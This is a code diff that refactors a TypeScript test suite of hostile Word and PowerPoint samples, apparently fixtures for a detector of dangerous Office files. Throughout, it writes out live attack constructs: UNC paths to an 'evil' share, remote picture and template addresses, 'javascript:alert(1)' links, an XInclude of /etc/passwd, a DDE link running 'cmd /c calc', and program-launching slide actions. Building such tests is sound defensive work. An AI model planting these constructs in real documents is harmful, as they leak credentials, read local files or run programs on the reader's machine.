@@ -14,16 +14,25 @@ import {
 } from '../writers/ooxml.ts';
 import { hostileFilesOf } from './hostile-file.ts';
 
+const withRels = (data: Buffer | string) => withPart('word/_rels/settings.xml.rels', data);
 const withRelationship = (attributes: string) =>
-  withPart(
-    'word/_rels/settings.xml.rels',
-    `<Relationships><Relationship Id="a" ${attributes}/></Relationships>`,
-  );
+  withRels(`<Relationships><Relationship Id="a" ${attributes}/></Relationships>`);
 const inBody = (body: string) => docx({ body });
 const inPicture = (element: string) => inBody(`<w:p><w:r><w:pict>${element}</w:pict></w:r></w:p>`);
-const withSvg = (content: string) =>
-  withPart('word/media/a.svg', `<svg xmlns="a">${content}</svg>`);
+const imageData = (attributes: string) => inPicture(`<v:imagedata ${attributes}/>`);
+const shape = (attributes: string) => inPicture(`<v:shape ${attributes}/>`);
+const withSvg = (content: string, name = 'a.svg') =>
+  withPart(`word/media/${name}`, `<svg xmlns="a">${content}</svg>`);
+/** A part whose name tells nothing about its content. */
+const withData = (data: string) => withPart('word/a.dat', data);
+const withXml = (data: string) => withPart('word/a.xml', data);
+const withSettings = (data: string) => withPart('word/settings.xml', data);
 const withSlide = (data: string) => pptxWithPart('ppt/slides/slide2.xml', data);
+const withClick = (action: string) => withSlide(`<a:hlinkClick action="${action}"/>`);
+const withWorkbook = (data: Buffer) => pptxWithPart('ppt/embeddings/a.xlsx', data);
+/** A field whose instruction contains the result of another one. */
+const computed = (before: string, after = '') =>
+  inBody(field(`${code(before)}${field(code('REF a'))}${after && code(after)}`));
 const app = (base: string) =>
   withPart('docProps/app.xml', `<Properties><HyperlinkBase>${base}</HyperlinkBase></Properties>`);
 
@@ -32,31 +41,28 @@ const templates = relationshipsPart([
 ]);
 const undeclared = templates.replace(/^<\?xml[^>]*>\s*/, '');
 const swapped = (text: string) => Buffer.from(text, 'utf16le').swap16();
-const withRels = (data: Buffer | string) => withPart('word/_rels/settings.xml.rels', data);
 
 /** Addresses in the attributes of a drawing, which no program writes there. */
 const drawings = () => {
   const share = '\\\\evil\\x.png';
   return hostileFilesOf('docx', {
     'external-content': {
-      'a VML picture from a share': inPicture(`<v:imagedata src="${share}"/>`),
-      'a VML picture from the web': inPicture('<v:imagedata src="http://x.example/a.png"/>'),
-      'a VML picture as a script': inPicture('<v:imagedata src="javascript:alert(1)"/>'),
-      'a VML picture of a local file': inPicture('<v:imagedata src="file:///C:/a.png"/>'),
-      'a VML picture, encoded': inPicture('<v:imagedata src="%5c%5cevil%5cx.png"/>'),
-      'a VML picture, in references to characters': inPicture(
-        '<v:imagedata src="&#92;&#x5c;evil&#92;x.png"/>',
-      ),
-      'a VML picture, after a space': inPicture("<v:imagedata src = '&#10; //evil/x.png'/>"),
+      'a VML picture from a share': imageData(`src="${share}"`),
+      'a VML picture from the web': imageData('src="http://x.example/a.png"'),
+      'a VML picture as a script': imageData('src="javascript:alert(1)"'),
+      'a VML picture of a local file': imageData('src="file:///C:/a.png"'),
+      'a VML picture, encoded': imageData('src="%5c%5cevil%5cx.png"'),
+      'a VML picture, in references to characters': imageData('src="&#92;&#x5c;evil&#92;x.png"'),
+      'a VML picture, after a space': imageData("src = '&#10; //evil/x.png'"),
       'a VML picture with another prefix': inPicture('<q:imagedata q:SRC="//evil/x.png"/>'),
-      'a VML picture by its alternative': inPicture('<v:imagedata o:althref="http://x.example"/>'),
+      'a VML picture by its alternative': imageData('o:althref="http://x.example"'),
       'a VML fill from a share': inPicture(`<v:shape><v:fill src="${share}"/></v:shape>`),
       'a VML fill from the web': inPicture('<v:fill type="frame" src="https://x.example/a.png"/>'),
       'a VML stroke from the web': inPicture('<v:stroke src="http://x.example/a.png"/>'),
-      'a VML style from the web': inPicture(
-        '<v:shape style="position:absolute;background:url(http://x.example)"/>',
+      'a VML style from the web': shape(
+        'style="position:absolute;background:url(http://x.example)"',
       ),
-      'a VML style with an escape': inPicture('<v:shape style="background:\\75rl(//evil)"/>'),
+      'a VML style with an escape': shape('style="background:\\75rl(//evil)"'),
       'a VML drawing in a part of its own': withPart(
         'word/drawings/vmlDrawing1.vml',
         '<xml><v:imagedata src="http://x.example"/></xml>',
@@ -70,17 +76,14 @@ const drawings = () => {
       'a video with a web page': inBody(
         '<wp15:webVideoPr embeddedHtml="&lt;iframe src=&quot;http://x.example&quot;&gt;"/>',
       ),
-      'a style sheet for its XML': withPart(
-        'word/a.xml',
+      'a style sheet for its XML': withXml(
         '<?xml-stylesheet type="text/xsl" href="http://x.example/a.xsl"?><a/>',
       ),
       'a part that XInclude adds': inBody('<xi:include parse="text" href2="file:///etc/passwd"/>'),
-      'a schema from the web': withPart(
-        'word/settings.xml',
+      'a schema from the web': withSettings(
         '<w:settings><sl:schema sl:manifestLocation="http://x.example/m.xml"/></w:settings>',
       ),
-      'a database for mail merge': withPart(
-        'word/settings.xml',
+      'a database for mail merge': withSettings(
         '<w:mailMerge><w:connectString w:val="Provider=MSDASQL;Data Source=x.example"/></w:mailMerge>',
       ),
       'a connection in an embedded workbook': withPart(
@@ -92,17 +95,14 @@ const drawings = () => {
       ),
       'a vector picture with a style from the web': withSvg('<style>@import "http://x"</style>'),
       'a vector picture with a paint from the web': withSvg('<rect fill="url(http://x/a#b)"/>'),
-      'a vector picture by another name': withPart(
-        'word/media/a.png',
-        '<svg xmlns="a"><image src="//evil/x"/></svg>',
-      ),
+      'a vector picture by another name': withSvg('<image src="//evil/x"/>', 'a.png'),
     },
     'unsafe-link': {
-      'a VML shape with a link to a share': inPicture(`<v:shape href="${share}"/>`),
-      'a VML shape with a link to the web': inPicture('<v:shape href="http://x.example"/>'),
-      'a VML shape with a link to JavaScript': inPicture('<v:shape href="javascript:alert(1)"/>'),
-      'a VML shape with a link to JavaScript in pieces': inPicture(
-        '<v:shape o:href="java&#9;script&#58;alert(1)"/>',
+      'a VML shape with a link to a share': shape(`href="${share}"`),
+      'a VML shape with a link to the web': shape('href="http://x.example"'),
+      'a VML shape with a link to JavaScript': shape('href="javascript:alert(1)"'),
+      'a VML shape with a link to JavaScript in pieces': shape(
+        'o:href="java&#9;script&#58;alert(1)"',
       ),
       'a vector picture with a picture from the web': withSvg(
         '<image xlink:href="http://x.example/a.png"/>',
@@ -159,7 +159,7 @@ const relationships = () =>
       'a template in relationships with a prefix': withRels(
         '<p:Relationships xmlns:p="a"><p:Relationship Id="a" Type="x/attachedTemplate" TargetMode="External" Target="&#104;ttp://x.example"/></p:Relationships>',
       ),
-      'relationships by another name': withPart('word/a.dat', undeclared),
+      'relationships by another name': withData(undeclared),
       'a base of its links on a share': app('\\\\evil\\share\\'),
       'a base of its links on the web': app('http://x.example/'),
       'a base of its links, in characters of CDATA': app('<![CDATA[http:]]>//x.example/'),
@@ -214,18 +214,12 @@ const relationships = () =>
       'a program of Java': withPart('META-INF/MANIFEST.MF', 'Main-Class: a'),
     },
     bomb: {
-      'a document type from the web': withPart(
-        'word/a.xml',
-        '<!DOCTYPE a SYSTEM "http://x.example/a.dtd"><a/>',
-      ),
+      'a document type from the web': withXml('<!DOCTYPE a SYSTEM "http://x.example/a.dtd"><a/>'),
       'a vector picture with entities': withPart(
         'word/media/a.svg',
         '<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>',
       ),
-      'entities in a part by another name': withPart(
-        'word/a.dat',
-        '<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>',
-      ),
+      'entities in a part by another name': withData('<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'),
     },
   });
 
@@ -238,11 +232,10 @@ const fields = () =>
       ),
       'a picture field from the web by its old name': withField('IMPORT "https://x.example/a.png"'),
       'a picture field of an encoded share': withField('INCLUDEPICTURE "%5c%5cevil/a.png"'),
-      'a picture field at a computed address': inBody(
-        field(`${code('INCLUDEPICTURE ')}${field(code('REF a'))}`),
-      ),
-      'a picture field at an address of which a part is computed': inBody(
-        field(`${code('INCLUDEPICTURE "h')}${field(code('REF a'))}${code('"')}`),
+      'a picture field at a computed address': computed('INCLUDEPICTURE '),
+      'a picture field at an address of which a part is computed': computed(
+        'INCLUDEPICTURE "h',
+        '"',
       ),
       'a text from the web by its old name': withField('INCLUDE "https://x.example/a.docx"'),
       'a transformed text': withField('INCLUDETEXT "a.xml" \\t "http://x.example/a.xsl"'),
@@ -272,29 +265,22 @@ const fields = () =>
     'unsafe-link': {
       'a field with a link to an unknown scheme': withField('HYPERLINK "ms-unknown:a"'),
       'a field with a link to an encoded share': withField('HYPERLINK "%5c%5cevil"'),
-      'a field with a link of which a part is computed': inBody(
-        field(`${code('HYPERLINK "java')}${field(code('REF a'))}${code('"')}`),
-      ),
-      'a field with a computed link': inBody(field(`${code('HYPERLINK ')}${field(code('REF a'))}`)),
+      'a field with a link of which a part is computed': computed('HYPERLINK "java', '"'),
+      'a field with a computed link': computed('HYPERLINK '),
     },
   });
 
 const presentations = () =>
   hostileFilesOf('pptx', {
     'launches-program': {
-      'a click that starts a program, in references to characters': withSlide(
-        '<a:hlinkClick action="ppaction:&#47;/program"/>',
-      ),
-      'a click that starts a program, in capitals': withSlide(
-        '<a:hlinkClick action="PPAction://Program"/>',
-      ),
+      'a click that starts a program, in references to characters':
+        withClick('ppaction:&#47;/program'),
+      'a click that starts a program, in capitals': withClick('PPAction://Program'),
       'a hover that starts a program': withSlide('<a:hlinkHover action="ppaction://program"/>'),
-      'a click of no known action': withSlide('<a:hlinkClick action="ppaction://hologram"/>'),
+      'a click of no known action': withClick('ppaction://hologram'),
     },
     macro: {
-      'a click that runs a macro, in capitals': withSlide(
-        '<a:hlinkClick action="PPACTION://MACRO"/>',
-      ),
+      'a click that runs a macro, in capitals': withClick('PPACTION://MACRO'),
     },
     'external-content': {
       'a video with a web page': withSlide(
@@ -306,14 +292,12 @@ const presentations = () =>
       'a sound from a share': pptxWithExternal('audio', 'file://evil/a.wav'),
       'a video from a share, encoded': pptxWithExternal('media', '%5C%5Cevil%5Ca.mp4'),
       'an address to publish to': withSlide('<p:htmlPubPr src="http://x.example"/>'),
-      'DDE in an embedded workbook by its path': pptxWithPart(
-        'ppt/embeddings/a.xlsx',
+      'DDE in an embedded workbook by its path': withWorkbook(
         xlsxWithExternal('externalLinkPath', '//evil'),
       ),
     },
     'dynamic-data': {
-      'DDE in an embedded workbook': pptxWithPart(
-        'ppt/embeddings/a.xlsx',
+      'DDE in an embedded workbook': withWorkbook(
         xlsxWithPart(
           'xl/externalLinks/externalLink1.xml',
           '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
